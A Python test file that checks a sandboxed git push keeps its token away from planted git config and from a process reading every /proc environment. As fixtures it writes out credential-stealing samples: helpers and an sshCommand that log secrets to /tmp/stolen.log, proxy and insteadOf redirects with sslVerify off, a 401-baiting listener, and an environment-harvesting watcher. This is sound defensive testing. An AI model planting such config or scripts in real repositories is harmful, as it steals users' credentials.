"""A push's credential against code in the conversation's sandbox: planted git config, and
a process left running to read every environment in `/proc`.

The git server and its decoy are `tests/api/test_git.py`'s (its own network namespace, on
a TEST-NET address reached through the egress fence); the decoy stands for an attacker's
proxy on the internet, which needs no process of the attacker's alive in the sandbox. A
second listener runs inside the conversation's sandbox on its loopback, where a planted
config can point git as well. Both must hear nothing while the push reaches the real
server with the credential.
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import shlex
from pathlib import Path

import pytest

from burrow.runs.workspace.git.push import Author, GitFailed, commit_and_push
from burrow.sandbox.backend import ExecRequest, NetworkPolicy, Sandbox, closing_exec
from burrow.sandbox.local import LocalBackend
from tests.api.harness import RunningServer, running_server
from tests.api.test_git import (
    PASSWORD,
    GitRemote,
    git_remote,  # noqa: F401  (the module's git server, a fixture)
    imported,
    sh,
    shell,
)
from tests.api.test_secrets import put_secret

LISTENER_PORT = 8099  # on the conversation's sandbox's own loopback
LISTENER_LOG = "/tmp/attacker.log"  # the sandbox's /tmp: outside the workspace, not committed
STOLEN_LOG = "/tmp/stolen.log"  # what a planted helper or ssh command was given

# A listener that plays a proxy or a server asking for a password: each request's head is
# logged, and the answer is a 401 for Basic auth (git then sends the credential it holds).
LISTENER = r"""
import socket, sys
port, log = int(sys.argv[1]), sys.argv[2]
server = socket.socket()
server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
server.bind(("127.0.0.1", port))
server.listen(16)
open(log + ".ready", "w").close()
while True:
    conn, _ = server.accept()
    conn.settimeout(5)
    head = b""
    try:
        while b"\r\n\r\n" not in head and len(head) < 65536:
            piece = conn.recv(4096)
            if not piece:
                break
            head += piece
        with open(log, "ab") as f:
            f.write(head + b"\n")
        conn.sendall(b"HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Basic realm=\"x\"\r\n"
                     b"Content-Length: 0\r\nConnection: close\r\n\r\n")
    except OSError:
        pass
    conn.close()
"""

# Every process's environment, as often as it can, each distinct one written once.
WATCHER = r"""
import glob, sys, time
out, seen, end = sys.argv[1], set(), time.monotonic() + 120
while time.monotonic() < end:
    for path in glob.glob("/proc/[0-9]*/environ"):
        try:
            with open(path, "rb") as f:
                data = f.read()
        except OSError:
            continue
        if data and data not in seen:
            seen.add(data)
            with open(out, "ab") as f:
                f.write(data.replace(b"\0", b"\n") + b"\n--\n")
    time.sleep(0.002)
"""

HELPER = '"!f() { echo \\"$@\\" >> /tmp/stolen.log; cat >> /tmp/stolen.log; }; f"'


def plants(server: str) -> dict[str, tuple[str, str]]:
    """Where each planted config goes and what it says, by name."""
    proxy = f'[http "http://{server}/"]\n\tproxy = http://{server}:8081\n\tsslVerify = false\n'
    return {
        # The attack: the push through the attacker's proxy, TLS checks off.
        "proxy-in-repo-config": (".git/config", proxy),
        "proxy-in-home-gitconfig": (".gitconfig", proxy),  # HOME is the workspace
        # Helpers that would be handed the credential, a rewrite to the sandbox's own
        # listener, an ssh command: none of them may run or be followed.
        "helpers-and-rewrite-in-repo-config": (
            ".git/config",
            f"[credential]\n\thelper = {HELPER}\n"
            f'[credential "http://{server}"]\n\thelper = {HELPER}\n'
            "[core]\n\tsshCommand = sh -c 'env >> /tmp/stolen.log'\n"
            f'[url "http://127.0.0.1:{LISTENER_PORT}/"]\n\tinsteadOf = http://{server}/\n',
        ),
        # An include from the home config, naming a more specific proxy: the listener.
        "include-in-home-gitconfig": (
            ".gitconfig",
            "[include]\n\tpath = /tmp/planted.inc\n",
        ),
    }


async def cloned(srv: RunningServer, remote: GitRemote) -> str:
    """A conversation holding a clone of the remote, the secret GIT_TOKEN its password."""
    assert (await put_secret(srv.client, "GIT_TOKEN", PASSWORD)).status_code == 200
    created = await srv.client.post(
        "/api/conversations",
        json={"title": "widget", "repo": {"url": remote.url, "secret": "GIT_TOKEN"}},
    )
    assert created.status_code == 201, created.text
    cid: str = created.json()["id"]
    done = await imported(srv, cid)
    assert done["data"]["stage"] == "done", done
    return cid


async def started(srv: RunningServer, cid: str, source: str, *args: str) -> None:
    """`python3 -c source args` left running in the conversation's sandbox."""
    command = " ".join(shlex.quote(a) for a in ("python3", "-c", source, *args))
    code, out = await shell(srv, cid, f"nohup {command} >/dev/null 2>&1 & echo $! > {args[-1]}.pid")
    assert code == 0, out


def push_sandboxes(srv: RunningServer) -> set[str]:
    """Push sandboxes this server's backend knows of or left a workspace (or disk) for."""
    backend = srv.services.runtime.sandboxes.backend
    assert isinstance(backend, LocalBackend)
    on_disk = {p.name.removesuffix(".img") for p in (backend.data_dir / "workspaces").iterdir()}
    return {name for name in on_disk | set(backend._sandboxes) if ".push-" in name}


@pytest.mark.parametrize("plant", list(plants("x")))
async def test_planted_git_config_never_reaches_a_credentialed_push(
    tmp_path: Path,
    git_remote: GitRemote,  # noqa: F811
    plant: str,
) -> None:
    server = git_remote.url.split("/")[2]
    target, text = plants(server)[plant]
    async with running_server(tmp_path, None, sandbox_network="egress") as srv:
        cid = await cloned(srv, git_remote)
        await started(srv, cid, LISTENER, str(LISTENER_PORT), LISTENER_LOG)
        ready = f"{LISTENER_LOG}.ready"
        code, out = await shell(
            srv,
            cid,
            f"for i in $(seq 100); do [ -e {ready} ] && break; sleep 0.05; done; ls {ready}",
        )
        assert code == 0, out
        include = f'[http "http://{server}/acme/widget.git"]\n\tproxy = http://127.0.0.1:{LISTENER_PORT}\n'
        code, out = await shell(
            srv, cid, f"printf %s {shlex.quote(include)} > /tmp/planted.inc && "
            f"printf %s {shlex.quote(text)} >> {target} && echo planted >> README.md",
        )  # fmt: skip
        assert code == 0, out
        decoy_before = git_remote.decoy_log.read_text()
        branch = f"plant/{plant}"

        pushed = await srv.client.post(
            f"/api/conversations/{cid}/git/push", json={"branch": branch, "secret": "GIT_TOKEN"}
        )

        # Nothing but the real server heard of it: not the attacker's proxy, the sandbox's
        # own listener, the planted helpers or ssh command.
        proxied = git_remote.decoy_log.read_text().removeprefix(decoy_before)
        assert proxied == "", proxied
        _, heard = await shell(srv, cid, f"cat {LISTENER_LOG} {STOLEN_LOG} 2>&1")
        assert heard.count("No such file") == 2, heard
        token = base64.b64encode(f"x-access-token:{PASSWORD}".encode()).decode()
        assert PASSWORD not in heard and token not in heard
        # And the push reached the real server, by the configured URL, with the credential.
        assert pushed.status_code == 200, pushed.text
        assert pushed.json()["url"] == git_remote.url and pushed.json()["committed"] is True
        bare = str(git_remote.bare)
        assert pushed.json()["commit"] == sh("git", "--git-dir", bare, "rev-parse", branch).strip()
        assert sh("git", "--git-dir", bare, "show", f"{branch}:README.md").endswith("planted\n")
        code, environ = await shell(srv, cid, "cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'")
        assert PASSWORD not in environ
        assert push_sandboxes(srv) == set()


async def test_a_process_left_in_the_sandbox_never_sees_the_push_credential(
    tmp_path: Path,
    git_remote: GitRemote,  # noqa: F811
) -> None:
    async with running_server(tmp_path, None, sandbox_network="egress") as srv:
        cid = await cloned(srv, git_remote)
        seen = "/tmp/environ.log"
        await started(srv, cid, WATCHER, seen)
        # The watcher does see what other commands of the sandbox hold in their environment.
        canary = "canary-" + PASSWORD[::-1]
        sandbox = await srv.services.runtime.sandboxes.get(cid)
        await _run(
            sandbox,
            f"for i in $(seq 100); do grep -q {canary} {seen} && break; sleep 0.05; done",
            {"CANARY": canary},
        )
        code, _ = await shell(srv, cid, f"grep -c {canary} {seen}")
        assert code == 0, "the watcher saw no other process's environment"

        await shell(srv, cid, "echo watched >> README.md")
        pushed = await srv.client.post(
            f"/api/conversations/{cid}/git/push",
            json={"branch": "burrow/watched", "secret": "GIT_TOKEN"},
        )
        assert pushed.status_code == 200, pushed.text
        assert (
            pushed.json()["commit"]
            == sh("git", "--git-dir", str(git_remote.bare), "rev-parse", "burrow/watched").strip()
        )
        assert "user=x-access-token" in git_remote.log.read_text()
        code, alive = await shell(srv, cid, f"kill -0 $(cat {seen}.pid) && echo alive")
        assert alive.strip() == "alive"  # it watched the whole push
        code, environ = await shell(srv, cid, f"kill $(cat {seen}.pid); cat {seen}")
        assert canary in environ
        assert PASSWORD not in environ
        assert push_sandboxes(srv) == set()


async def test_the_push_sandbox_is_gone_after_a_failure_and_past_the_size_limit(
    tmp_path: Path,
    git_remote: GitRemote,  # noqa: F811
) -> None:
    async with running_server(
        tmp_path, None, sandbox_network="egress", git_push_max_mb=0.05
    ) as srv:
        cid = await cloned(srv, git_remote)
        anonymous = await srv.client.post(
            f"/api/conversations/{cid}/git/push", json={"branch": "burrow/anonymous"}
        )
        assert anonymous.status_code == 502, anonymous.text
        assert anonymous.json()["error"]["code"] == "push_failed"
        assert push_sandboxes(srv) == set()

        # 200 kB that do not compress: the bundle is past the 50 kB limit.
        await shell(srv, cid, "head -c 200000 /dev/urandom > blob.bin")
        huge = await srv.client.post(
            f"/api/conversations/{cid}/git/push",
            json={"branch": "burrow/huge", "secret": "GIT_TOKEN"},
        )
        assert huge.status_code == 409, huge.text
        assert huge.json()["error"]["code"] == "push_too_large"
        assert "BURROW_GIT_PUSH_MAX_MB" in huge.json()["error"]["message"]
        assert push_sandboxes(srv) == set()
        _, left = await shell(srv, cid, "ls -A .burrow/outputs")
        assert ".bundle" not in left  # the conversation's copy of the bundle is gone too


class Watched:
    """The real backend, with the push sandbox's start announced (to cancel the push then)."""

    def __init__(self, backend: LocalBackend) -> None:
        self.backend = backend
        self.created = asyncio.Event()
        self.destroyed: list[str] = []

    async def create(self, sandbox_id: str, *, network: NetworkPolicy | None = None) -> Sandbox:
        sandbox = await self.backend.create(sandbox_id, network=network)
        self.created.set()
        await asyncio.sleep(30)  # held here: the push is cancelled meanwhile
        return sandbox

    async def destroy(self, sandbox_id: str) -> None:
        await self.backend.destroy(sandbox_id)
        self.destroyed.append(sandbox_id)


async def test_a_cancelled_push_destroys_its_sandbox(
    tmp_path: Path,
    git_remote: GitRemote,  # noqa: F811
) -> None:
    async with running_server(tmp_path, None, sandbox_network="egress") as srv:
        cid = await cloned(srv, git_remote)
        pool = srv.services.runtime.sandboxes
        assert isinstance(pool.backend, LocalBackend)
        watched = Watched(pool.backend)
        push = asyncio.create_task(
            commit_and_push(
                await pool.get(cid),
                maker=watched,
                network="egress",
                branch="burrow/cancelled",
                remote_name="origin",
                message="m",
                author=Author("A", "a@example.com"),
                credential=PASSWORD,
                max_bytes=1 << 20,
            )
        )
        await asyncio.wait_for(watched.created.wait(), 30)
        assert len(push_sandboxes(srv)) == 1
        push.cancel()
        with contextlib.suppress(asyncio.CancelledError, GitFailed):
            await push
        assert len(watched.destroyed) == 1 and watched.destroyed[0].startswith(f"{cid}.push-")
        assert push_sandboxes(srv) == set()


async def _run(sandbox: Sandbox, command: str, env: dict[str, str]) -> None:
    async with closing_exec(
        sandbox.exec(ExecRequest(argv=["sh", "-c", command], env=env))
    ) as events:
        async for _ in events:
            pass
